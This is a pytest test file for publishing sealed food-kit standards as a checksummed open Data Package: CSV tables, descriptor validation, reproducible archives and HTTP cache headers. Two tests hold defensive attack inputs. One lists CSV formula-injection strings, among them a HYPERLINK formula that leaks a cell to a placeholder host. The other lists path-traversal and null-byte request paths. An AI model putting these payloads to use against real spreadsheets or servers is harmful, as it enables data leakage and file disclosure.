"""Open data of the standards: whole, checkable, the same for ever (ECO-13)."""

import csv
import hashlib
import io
import json
import zipfile
from collections.abc import Mapping
from datetime import UTC, date, datetime
from pathlib import Path

import dplib
import frictionless
import jsonschema
import pytest
from flask import Flask
from sqlalchemy.orm import Session

from accounts.values import Role
from catalog.documents.releases import DESCRIPTOR, SUMS, Release, release_of
from catalog.queries.releases import fixed_quarters, list_sealed
from catalog.rules.contents import (
    ContentItem,
    ContentKit,
    ContentLine,
    ContentSubstitute,
    Names,
    StandardContent,
    canonical_json,
    content_hash,
)
from catalog.services.versions import fix_standards
from catalog.values import SealedVersion
from core.quarters import Quarter
from tests.conftest import SignIn
from tests.support.client import InspectingClient

FIXED_AT = datetime(2026, 9, 20, 4, 5, 6, 789, tzinfo=UTC)
QUARTER = Quarter(2026, 4)
FORMAT_1 = "afe1c6e6b37e0b4040d05bf89fa28e1472876a2c38957629724c94fcfd54ca9b"
"""SHA-256 of the archive that format 1 makes of the versions below."""

SEEN: set[str] = set()
"""SHA-256 of the archive of the catalogue's own facts, on each engine."""


def a_sealed(
    *, kit: str = "F13", number: int = 1, effective_from: Quarter = QUARTER, name: str = "Milk", note: str = ""
) -> SealedVersion:
    """Return a version as it is sealed, made by hand: nothing of it depends on the facts of a catalogue."""
    item = ContentItem(
        "MILK", Names("Сүт", "Молоко", name), 900, "ml", 927, 180, 2, 25, ("milk",), (), 58_000, "Label",
        {"kcal": 53_000, "protein_g": 2_905},
    )  # fmt: skip
    other = ContentItem(
        "KEFIR", Names("Айран", "Кефир", "Kefir"), 1, "pcs", None, None, None, None, (), ("milk", "nuts"), None, "", {},
        ("KEFIR-1", "KEFIR-2"),
    )  # fmt: skip
    reason = Names("Тапшылық", "Дефицит", "Shortage")
    content = StandardContent(
        kit=ContentKit(kit, "food", Names("Жинақ", "Набор", "Set"), 12, 36, 1, "any", "any"),
        number=number,
        effective_from=effective_from,
        legal_document=Names("Қаулы", "Постановление", "Resolution"),
        legal_number="1032",
        legal_on=date(2019, 12, 30),
        change_note=Names(note, note, note),
        lines=(ContentLine(1, item, 3),),
        substitutes=(ContentSubstitute("MILK", other, 2, 3, reason, QUARTER, None),),
    )
    written = canonical_json(content)
    approved_at = datetime(2026, 8, number, tzinfo=UTC)
    return SealedVersion(kit, number, effective_from, approved_at, written, content_hash(written))


def rows_of(release: Release, table: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(release.files[f"{table}.csv"].decode())))


def put_into(folder: Path, files: Mapping[str, bytes]) -> Path:
    for path, body in files.items():
        target = folder / path
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_bytes(body)
    return folder


def test_eco_13_a_release_says_which_version_is_in_force() -> None:
    versions = [
        a_sealed(number=1, effective_from=Quarter(2020, 1)),
        a_sealed(number=2, effective_from=Quarter(2026, 4)),
        a_sealed(number=3, effective_from=Quarter(2027, 1)),
        a_sealed(kit="HYG", number=1, effective_from=Quarter(2020, 1)),
    ]
    release = release_of(versions, quarter=QUARTER, fixed_at=FIXED_AT)
    assert [(row["kit"], row["number"], row["in_force"]) for row in rows_of(release, "standards")] == [
        ("F13", "1", "false"),
        ("F13", "2", "true"),
        ("HYG", "1", "true"),
    ]
    assert {row["item"] for row in rows_of(release, "items")} == {"MILK", "KEFIR"}
    assert rows_of(release, "nutrients")[1]["amount"] == "2.905"


def test_eco_13_the_descriptor_keeps_the_profile_of_the_standard() -> None:
    release = release_of([a_sealed()], quarter=QUARTER, fixed_at=FIXED_AT)
    told = json.loads(release.files[DESCRIPTOR])
    profiles = Path(dplib.__file__ or "").parent / "profiles" / "2.0"  # the official ones, which this package carries
    jsonschema.Draft7Validator(json.loads((profiles / "datapackage.json").read_text("utf-8"))).validate(told)
    assert told["$schema"] == "https://datapackage.org/profiles/2.0/datapackage.json"
    assert told["created"] == "2026-09-20T04:05:06Z"
    assert told["version"] == "2026.4.0"
    assert told["licenses"][0]["name"] == "CC-BY-4.0"
    assert told["sources"] == [{"title": "Resolution, No. 1032 of 2019-12-30"}]
    for resource in told["resources"]:
        assert not resource["path"].startswith(("/", "http", "."))
        body = release.files[resource["path"]]
        assert resource["bytes"] == len(body)
        assert resource["hash"] == f"sha256:{hashlib.sha256(body).hexdigest()}"


def test_eco_13_the_tables_keep_their_own_schema_and_keys(tmp_path: Path, session: Session) -> None:
    """Types, constraints, primary and foreign keys, sizes and checksums, by a validator that is not ours."""
    for number, sealed in enumerate((list_sealed(session), [a_sealed(), a_sealed(kit="HYG")])):
        release = release_of(sealed, quarter=QUARTER, fixed_at=FIXED_AT)
        folder = put_into(tmp_path / str(number), release.files)
        report = frictionless.validate(str(folder / DESCRIPTOR))
        assert report.valid, report.flatten(["title", "fieldName", "rowNumber", "message"])
        assert report.stats["tasks"] == 5 + len(sealed)


def test_eco_13_the_validator_would_see_a_wrong_row(tmp_path: Path) -> None:
    release = release_of([a_sealed()], quarter=QUARTER, fixed_at=FIXED_AT)
    folder = put_into(tmp_path, release.files)
    lines = folder / "lines.csv"
    lines.write_bytes(lines.read_bytes().replace(b"MILK", b"MELK"))
    assert not frictionless.validate(str(folder / DESCRIPTOR)).valid


def test_eco_13_a_release_comes_out_the_same_each_time() -> None:
    """Change nothing of format 1: releases are cited by their checksum. Write a format 2 beside it."""
    sealed = [a_sealed(), a_sealed(kit="HYG", note="=1+1")]
    one = release_of(sealed, quarter=QUARTER, fixed_at=FIXED_AT)
    assert one.archive_hash == hashlib.sha256(one.archive).hexdigest()
    assert one.archive_hash == FORMAT_1


def test_eco_13_later_versions_leave_a_release_as_it_is() -> None:
    early = [a_sealed()]
    before = release_of(early, quarter=QUARTER, fixed_at=FIXED_AT)
    after = release_of([*early, a_sealed(number=2, effective_from=QUARTER.next())], quarter=QUARTER, fixed_at=FIXED_AT)
    assert before.archive == after.archive


def test_the_archive_holds_all_files_with_their_checksums() -> None:
    release = release_of([a_sealed()], quarter=QUARTER, fixed_at=FIXED_AT)
    with zipfile.ZipFile(io.BytesIO(release.archive)) as archive:
        found = {name: archive.read(name) for name in archive.namelist()}
    assert found == dict(release.files)
    sums = {line.partition("  ")[::2] for line in found[SUMS].decode().splitlines()}
    assert sums == {(hashlib.sha256(body).hexdigest(), name) for name, body in found.items() if name != SUMS}


def test_eco_13_the_json_of_a_version_is_what_was_approved() -> None:
    sealed = a_sealed()
    release = release_of([sealed], quarter=QUARTER, fixed_at=FIXED_AT)
    body = release.files["versions/F13-1.json"]
    assert body.decode() == sealed.content
    assert hashlib.sha256(body).hexdigest() == sealed.content_hash == rows_of(release, "standards")[0]["content_hash"]


@pytest.mark.parametrize("evil", ["=1+1", "+1", "-2+3", "@SUM(1)", "＝1+1", '=HYPERLINK("http://x?"&A1)'])
def test_sec_32_bad_08_no_text_of_a_table_runs(evil: str) -> None:
    release = release_of([a_sealed(name=evil, note=evil)], quarter=QUARTER, fixed_at=FIXED_AT)
    assert rows_of(release, "standards")[0]["change_note_ru"] == f"'{evil}"
    milk = next(row for row in rows_of(release, "items") if row["item"] == "MILK")
    assert milk["name_en"] == f"'{evil}"
    assert json.loads(release.files["versions/F13-1.json"])["change_note"]["name_kk"] == evil


def test_nothing_is_published_of_a_quarter_that_is_not_fixed(client: InspectingClient) -> None:
    assert client.get("/open-data/standards/2026-Q4/datapackage.json").status_code == 404
    page = client.get("/open-data")
    assert page.status_code == 200
    told = client.get("/open-data/standards/preview/datapackage.json")
    assert told.json is not None
    assert told.json["name"] == "toptama-standards-preview"
    assert told.json["version"].endswith("-preview")
    assert "not fixed yet" in told.json["description"]
    assert "immutable" not in told.headers["Cache-Control"]


def test_sec_10_anybody_reads_a_release_and_may_keep_it(
    app: Flask, session: Session, client: InspectingClient, sign_in: SignIn
) -> None:
    fix_standards(session, quarter=QUARTER, at=FIXED_AT)
    session.commit()
    here = "/open-data/standards/2026-Q4"
    for browser in (client, sign_in(Role.MINISTRY)):
        told = browser.get(f"{here}/{DESCRIPTOR}")
        assert told.headers["Cache-Control"] == "public, max-age=31536000, immutable"
        assert told.headers["Access-Control-Allow-Origin"] == "*"
        assert "Access-Control-Allow-Credentials" not in told.headers
        assert "Set-Cookie" not in told.headers
        assert "Cookie" not in told.headers.get("Vary", "")
        assert "attachment" in told.headers["Content-Disposition"]
        again = browser.get(f"{here}/{DESCRIPTOR}", headers={"If-None-Match": told.headers["ETag"]})
        assert again.status_code == 304
    told = client.get(f"{here}/{DESCRIPTOR}")
    paths = [resource["path"] for resource in json.loads(told.data)["resources"]]
    assert all(client.get(f"{here}/{path}").status_code == 200 for path in paths)
    release = release_of(list_sealed(session), quarter=QUARTER, fixed_at=fixed_quarters(session)[QUARTER])
    assert client.get(f"{here}/{release.archive_name}").data == release.archive
    assert release.archive_hash in client.get("/open-data").text
    SEEN.add(release.archive_hash)
    assert len(SEEN) == 1, "both engines make the same bytes"


@pytest.mark.parametrize("path", ["../../config.py", "..%2f..%2fconfig.py", "nothing.csv", "", "%00", "versions/"])
def test_a_release_holds_only_its_own_files(session: Session, client: InspectingClient, path: str) -> None:
    fix_standards(session, quarter=QUARTER, at=FIXED_AT)
    session.commit()
    assert client.get(f"/open-data/standards/2026-Q4/{path}").status_code in {400, 404}


@pytest.mark.parametrize("quarter", ["2026-q4", " 2026-Q4", "2026-Q5", "9999-Q4", "2026", "%00", "2020-Q1"])
def test_a_release_has_one_address(session: Session, client: InspectingClient, quarter: str) -> None:
    fix_standards(session, quarter=QUARTER, at=FIXED_AT)
    session.commit()
    assert client.get(f"/open-data/standards/{quarter}/{DESCRIPTOR}").status_code in {400, 404}
